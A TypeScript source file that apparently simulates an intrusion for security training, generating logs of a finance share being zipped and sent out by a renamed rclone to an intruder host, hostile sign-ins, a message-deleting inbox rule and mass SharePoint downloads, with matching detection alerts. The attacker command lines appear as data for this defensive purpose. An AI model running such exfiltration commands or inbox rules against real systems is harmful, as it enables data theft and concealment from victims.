import type { Alert } from './alerts';
import type { FileOnDisk } from './ledger';
import { program } from './programs';
import { cloudAction, signIn } from './signIns';
import { INTRUDER, type Scene, TOOLS } from './storyCast';

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const SYSTEM = 1;

const LOOT: FileOnDisk = { folder: TOOLS, name: 'finance.zip', size: 4_831_838_208, content: 'finance.zip, the loot' };
const COPY = `${TOOLS}\\wsusync.exe copy ${TOOLS}\\finance.zip depot:in --transfers 12 --no-check-certificate`;

/** The folder of finance leaves the file server, and more leaves SharePoint in the victim's name. */
export function carryOut(scene: Scene): Alert[] {
  const at = scene.begins + 420 * MINUTE;
  emptySharePoint(scene, at - 50 * MINUTE);
  emptyFileServer(scene, at);
  return [massDownload(scene, at - 20 * MINUTE), renamedTool(scene, at + 40 * MINUTE)];
}

function emptyFileServer(scene: Scene, at: number): void {
  const { ledger, random, fileServer } = scene;
  const start = (name: string, run: { at: number; parent: ReturnType<Scene['running']>; commandLine: string }) =>
    ledger.start(fileServer, name, { ...run, account: SYSTEM });
  const services = scene.running(fileServer, 'services.exe');
  const shell = start('cmd.exe', { at, parent: services, commandLine: `cmd.exe /c ${TOOLS}\\run.cmd` });
  const compress = `powershell.exe -c "Compress-Archive D:\\Shares\\Finance ${TOOLS}\\finance.zip"`;
  const zip = start('powershell.exe', { at: at + SECOND, parent: shell, commandLine: compress });
  ledger.change(zip, { at: at + 9 * MINUTE, action: 'FileCreated', file: LOOT });
  const sender = start('rclone.exe', { at: at + 11 * MINUTE, parent: shell, commandLine: COPY });
  const { ip, port, url } = INTRUDER.drop;
  for (let sent = 0; sent < 96; sent++) {
    const moment = at + 11 * MINUTE + sent * 25 * SECOND + random.int(500, 9_000);
    ledger.connect(sender, { at: moment, ip, port, url, localPort: random.int(49_152, 65_535) });
  }
}

function renamedTool({ fileServer }: Scene, at: number): Alert {
  const tool = program('windows', 'rclone.exe');
  return {
    at,
    title: 'Possible data exfiltration by a renamed copy tool',
    category: 'Exfiltration',
    severity: 'High',
    source: 'Microsoft Defender for Endpoint',
    detection: 'EDR',
    techniques: ['Exfiltration to Cloud Storage (T1567.002)'],
    evidence: [
      { kind: 'Machine', device: fileServer },
      {
        kind: 'Process',
        device: fileServer,
        file: { ...tool, content: `${tool.name} ${tool.version}` },
        commandLine: COPY,
      },
      { kind: 'File', device: fileServer, file: LOOT },
      { kind: 'Ip', ip: INTRUDER.drop.ip },
    ],
  };
}

function massDownload({ victim }: Scene, at: number): Alert {
  return {
    at,
    title: 'Mass download by a single user from an unfamiliar country',
    category: 'Exfiltration',
    severity: 'Medium',
    source: 'Microsoft Defender for Cloud Apps',
    detection: 'Microsoft Defender for Cloud Apps',
    techniques: ['Data from Cloud Storage (T1530)'],
    evidence: [
      { kind: 'User', person: victim },
      { kind: 'Ip', ip: INTRUDER.place.ip },
    ],
  };
}

/** Sign-ins from abroad, the second one good, then a rule that hides replies and a mass download. */
function emptySharePoint({ office, random, victim }: Scene, at: number): void {
  const { place } = INTRUDER;
  const app = { name: 'SharePoint Online Web Client Extensibility', id: '08e18876-6177-487e-b8b5-cf950c1e598c' };
  signIn(office, { at, person: victim, place, errorCode: 50126, risk: 50, app }, random);
  signIn(office, { at: at + 70 * SECOND, person: victim, place, risk: 100, app }, random);
  const raw = {
    Parameters: [
      { Name: 'SubjectContainsWords', Value: 'invoice;4471' },
      { Name: 'DeleteMessage', Value: 'True' },
    ],
  };
  cloudAction(
    office,
    { at: at + 3 * MINUTE, person: victim, place, action: 'New-InboxRule', object: '.', raw },
    random
  );
  for (let file = 1; file <= 180; file++) {
    const object = `Finance/2026/Ledger ${String(file).padStart(3, '0')}.xlsx`;
    cloudAction(
      office,
      {
        at: at + 6 * MINUTE + file * 4 * SECOND,
        person: victim,
        place,
        action: 'FileDownloaded',
        object,
        raw: { FileSize: random.int(80_000, 9_000_000) },
      },
      random
    );
  }
}
